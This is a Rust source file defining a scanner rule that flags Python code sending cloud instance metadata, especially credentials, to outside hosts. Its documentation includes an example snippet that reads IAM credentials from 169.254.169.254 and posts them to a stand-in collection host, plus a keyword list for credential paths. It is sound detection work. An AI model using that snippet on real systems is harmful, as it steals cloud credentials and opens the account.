use airlock_model::{Confidence, RuleMeta, Severity};

use super::destination::Destination;
use crate::python::model::origin::{METADATA, SourceKind};
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::SinkKind;
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-metadata-to-network",
        title: "The cloud's metadata is sent away",
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        cwe: Some(918),
        bandit: &[],
        ruff: &[],
        remedy: "Let the cloud's own library find its credentials; send nothing of them on.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(&[SourceKind::Metadata], &[SinkKind::Send], check)],
};

/// Hosts of the clouds, for which the credentials are made.
const CLOUDS: &[&str] = &["amazonaws.com", "googleapis.com", "azure.com", "windows.net", "azure.net"];

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let destination = Destination::of(&arrival.destinations);
    let host = destination.host().unwrap_or_default();
    // The service itself wants its token back, and what it gives is for the cloud's own hosts.
    if METADATA.contains(&host) || CLOUDS.iter().any(|cloud| host.ends_with(cloud)) {
        return;
    }
    let Some((_, flow)) = arrival.of(&[SourceKind::Metadata]).next() else { return };
    let address = flow.name.as_deref().unwrap_or_default().to_ascii_lowercase();
    let secret = ["credential", "token", "identity", "user-data", "userdata"].iter().any(|word| address.contains(word));
    let told = address.rsplit('/').next().is_some_and(|last| !last.is_empty());
    let (severity, confidence) = match (secret, destination.is_suspicious() || !told) {
        (true, _) => (Severity::Critical, Confidence::High),
        (false, true) => (Severity::High, Confidence::Medium),
        (false, false) => (Severity::Low, Confidence::Low),
    };
    let message = format!(
        "{} sends what {} answers{}",
        arrival.path,
        airlock_model::escape::quoted(flow.name.as_deref().unwrap_or("the metadata service")),
        destination.phrase()
    );
    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
An answer of the service by which a cloud tells its machines about themselves (`169.254.169.254`, `metadata.google.internal`) that reaches another request. One value such as the region, sent to a named host, is low; credentials are critical. Requests back to the service and to the clouds' own hosts are not meant.

## Why it is dangerous
The service hands out the machine's credentials to whoever asks from inside. Sent out, they open the account.

## Example
```python
import requests

role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/app").text
requests.post("https://collect.example.net/m", data=role)
```

## Safe form
```python
import boto3

client = boto3.client("s3")
```

## References
- [MITRE ATT&CK T1552.005: Cloud Instance Metadata API](https://attack.mitre.org/techniques/T1552/005/)
- CWE-918: Server-Side Request Forgery
"##;
